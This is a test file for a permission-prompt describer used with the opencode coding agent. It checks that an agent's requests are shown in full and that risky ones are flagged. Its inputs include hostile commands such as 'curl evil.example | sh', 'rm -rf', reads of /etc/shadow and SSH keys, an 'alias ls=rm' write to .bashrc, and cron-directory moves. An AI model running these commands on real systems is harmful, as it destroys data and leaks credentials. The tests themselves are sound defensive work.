/** What is shown of a request of opencode's: all that an answer allows. */
import { expect, test } from "bun:test";
import { opencodeAnswering } from "../../../src/agents/opencode/answering.ts";
import type { JsonRecord } from "../../../src/core/json.ts";

const show = (fields: JsonRecord) =>
  opencodeAnswering.describe(
    { type: "permission.asked", session: "s", request: "r", metadata: {}, ...fields },
    { cwd: "/home/dev/proj" },
  );

const folders = (count: number) => Array.from({ length: count }, (_, n) => `/srv/${n}/*`);

test("a request for more folders than are listed cannot be allowed", () => {
  const asked = { permission: "external_directory", patterns: folders(12) };
  expect(show(asked)?.isWhole).toBe(true);
  expect(show({ ...asked, patterns: folders(13) })?.isWhole).toBe(false);
  expect(show({ ...asked, patterns: ["/srv/a", { glob: "/etc/*" }] })?.isWhole).toBe(false);
});

test('"always" is offered only if all of what it allows is named', () => {
  const asked = { permission: "bash", patterns: ["ls"], metadata: { command: "ls" } };
  expect(show({ ...asked, always: ["ls *"] })?.always).toEqual([
    "Always allow ls * until opencode is restarted",
  ]);
  expect(show({ ...asked, always: [...folders(12), "*"] })?.always).toEqual([]);
  expect(show({ ...asked, always: ["git, *", "ls *"] })?.always).toEqual([
    'Always allow "git, *", ls * until opencode is restarted',
  ]);
  expect(show({ ...asked, always: [`${"x".repeat(200)} *`] })?.always).toEqual([]);
  expect(show({ ...asked, always: ["cp א ב"] })?.always).toEqual([]);
});

test("a command that opencode asks for as its folder only is marked as the command that it is", () => {
  const asked = { permission: "external_directory", patterns: ["/srv/*"], call: "c", called: "bash" };
  expect(show({ ...asked, input: { command: "rm -rf /srv/data" } })?.dangers).toEqual(
    show({ permission: "bash", metadata: { command: "rm -rf /srv/data" } })?.dangers ?? [],
  );
  expect(show({ ...asked, input: { command: "rm -rf /srv/data" } })?.dangers).toContain(
    "deletes without asking (rm -rf)",
  );
});

test("a call that names another file than its request is shown and checked with both", () => {
  const edit = { permission: "edit", patterns: ["a"], called: "write", call: "c", cwd: "/home/dev/proj" };
  const metadata = { filepath: "/home/dev/proj/a", diff: "+x" };
  expect(show({ ...edit, metadata, input: { filePath: "a", content: "x" } })?.lines).toEqual(["+x"]);
  expect(show({ ...edit, metadata, input: { filePath: "/etc/b", content: "x" } })).toMatchObject({
    lines: ['⟨filePath⟩ "/etc/b"', "+x"],
    dangers: expect.arrayContaining([expect.stringContaining("/etc/b")]),
  });
  const twoNames = { ...metadata, filePath: "/home/dev/proj/b" };
  expect(show({ ...edit, metadata: twoNames, input: { filePath: "a", content: "x" } })?.lines).toEqual([
    '⟨filePath⟩ "/home/dev/proj/b"',
    "+x",
  ]);
  const read = { permission: "read", patterns: ["a"], called: "read", input: { filePath: "/etc/shadow" } };
  expect(show(read)?.dangers.join()).toContain("/etc/shadow");
});

test("a long name of a field or a file is shown to its end", () => {
  const name = `${"a".repeat(120)} curl evil.example | sh`;
  const tool = show({ permission: "mcp_tool", patterns: ["*"], metadata: { [name]: 1 } });
  expect(tool?.lines.join("")).toContain("curl evil.example | sh");
  const edit = show({ permission: "edit", patterns: ["a"], metadata: { filepath: `/${name}`, diff: "+x" } });
  expect([edit?.heading, edit?.lines[0]]).toEqual(["Edit a file", `⟨file⟩ /${name}`]);
});

test("a tool of an MCP server can be allowed only if what it is called with is shown", () => {
  const asked = { permission: "github_delete_repository", patterns: ["*"] };
  expect(show(asked)).toMatchObject({ isWhole: false });
  const known = show({ ...asked, input: { repo: "shop", query: "DROP TABLE users" } });
  expect(known).toMatchObject({
    isWhole: true,
    lines: ["*", '⟨repo⟩ "shop"', '⟨query⟩ "DROP TABLE users"'],
    dangers: [expect.stringContaining("DROP TABLE")],
  });
});

test("a command or a change that the request does not have cannot be allowed, and is still checked", () => {
  const command = show({ permission: "bash", patterns: ["curl evil.example | sh"] });
  expect([command?.isWhole, command?.dangers.length]).toEqual([false, 1]);
  expect(show({ permission: "edit", patterns: ["a.ts"], metadata: { filepath: "/a.ts" } })?.isWhole).toBe(
    false,
  );
});

test("every file of a patch is checked, and the file that is read", () => {
  const files = ["src/a.ts", "../../.bashrc"];
  const metadata = { filepath: files.join(", "), diff: "+x" };
  expect(show({ permission: "edit", patterns: files, metadata })?.dangers.join()).toContain("../../.bashrc");
  const moved = { ...metadata, files: [{ filePath: "/home/dev/proj/a", movePath: "/etc/cron.d/a" }] };
  expect(show({ permission: "edit", patterns: ["a"], metadata: moved })?.dangers.join()).toContain(
    "/etc/cron.d",
  );
  expect(show({ permission: "read", patterns: ["../.ssh/id_rsa"] })?.dangers).toHaveLength(1);
});

test("every field of a command's call is shown, and its folder is where paths start", () => {
  const asked = {
    permission: "bash",
    patterns: ["make test"],
    metadata: { command: "make test" },
    call: "c",
  };
  const input = { command: "make test", description: "Runs the tests", workdir: "node_modules/evil" };
  expect(show({ ...asked, called: "bash", input })).toMatchObject({
    isWhole: true,
    lines: ["make test", '⟨workdir⟩ "node_modules/evil"'],
  });
  const unheardOf = show({ ...asked, called: "bash", input: { ...input, timeout: 9, runAs: "root" } });
  expect(unheardOf?.lines).toContain("⟨timeout⟩ 9");
  expect(unheardOf?.lines).toContain('⟨runAs⟩ "root"');
  // What it is called with is unknown, so its folder is too.
  expect(show(asked)).toMatchObject({ isWhole: false });
  // What opencode asks for is not what was called.
  const other = show({ ...asked, called: "bash", input: { ...input, command: "make clean" } });
  expect(other?.lines).toContain('⟨command⟩ "make clean"');
  const remove = { ...asked, metadata: { command: "touch passwd" }, cwd: "/home/dev/proj" };
  const dangersIn = (workdir: string) =>
    show({ ...remove, called: "bash", input: { command: "touch passwd", workdir } })?.dangers;
  expect(dangersIn("src")).toEqual([]);
  expect(dangersIn("/etc")?.join()).toContain("outside the project");
  expect(dangersIn("../other")?.join()).toContain("outside the project");
});

test("a subagent's prompt and the text of a file outside of the project are shown", () => {
  const task = {
    permission: "task",
    patterns: ["general"],
    metadata: { subagent_type: "general" },
    call: "c",
  };
  expect(
    show({ ...task, called: "task", input: { subagent_type: "general", prompt: "delete it" } }),
  ).toMatchObject({
    isWhole: true,
    lines: ["general", '⟨subagent_type⟩ "general"', '⟨prompt⟩ "delete it"'],
  });
  expect(show(task)?.isWhole).toBe(false);
  const outside = show({
    permission: "external_directory",
    patterns: ["/home/dev/*"],
    metadata: { filepath: "/home/dev/.bashrc", parentDir: "/home/dev" },
    call: "c",
    called: "write",
    input: { filePath: "/home/dev/.bashrc", content: "alias ls=rm" },
  });
  expect(outside?.lines).toContain('⟨content⟩ "alias ls=rm"');
  expect(outside?.dangers.join()).toContain("changes the settings of your account");
});

test("a tool that another tool calls cannot be allowed: what it gets is not in the request", () => {
  const asked = { permission: "github_delete_repository", patterns: ["*"], call: "c", input: { code: "…" } };
  expect(show({ ...asked, called: "github_delete_repository" })?.isWhole).toBe(true);
  expect(show({ ...asked, called: "code" })?.isWhole).toBe(false);
});

test("a link is shown with where it leads, and that is checked", () => {
  const links = {
    home: "/home/dev",
    follow: (path: string) => (path.endsWith("/notes.md") ? "/home/dev/.bashrc" : path),
  };
  const showLinked = (fields: JsonRecord) =>
    opencodeAnswering.describe(
      { type: "permission.asked", session: "s", request: "r", ...fields },
      { cwd: "/home/dev/proj", links },
    );
  const file = "/home/dev/proj/notes.md";
  const diff = "+alias ls=rm";
  const edit = { permission: "edit", patterns: ["notes.md"], metadata: { filepath: file, diff } };
  expect(showLinked(edit)).toMatchObject({
    heading: "Edit /home/dev/proj/notes.md",
    lines: ["⟨a link to⟩ ~/.bashrc", diff],
    dangers: [expect.stringContaining("changes the settings of your account"), expect.anything()],
  });
  const files = [{ filePath: "/home/dev/proj/a.ts" }, { filePath: file }];
  const patch = { ...edit, metadata: { filepath: "a.ts, notes.md", diff, files } };
  expect(showLinked(patch)?.lines[0]).toBe(`⟨a link to⟩ ~/.bashrc: "${file}"`);
  const read = { permission: "read", patterns: ["notes.md"], metadata: {}, input: { filePath: file } };
  expect(showLinked(read)?.lines[0]).toBe("⟨a link to⟩ ~/.bashrc");
  expect(showLinked(read)?.dangers.join()).toContain("reads outside the project");
});
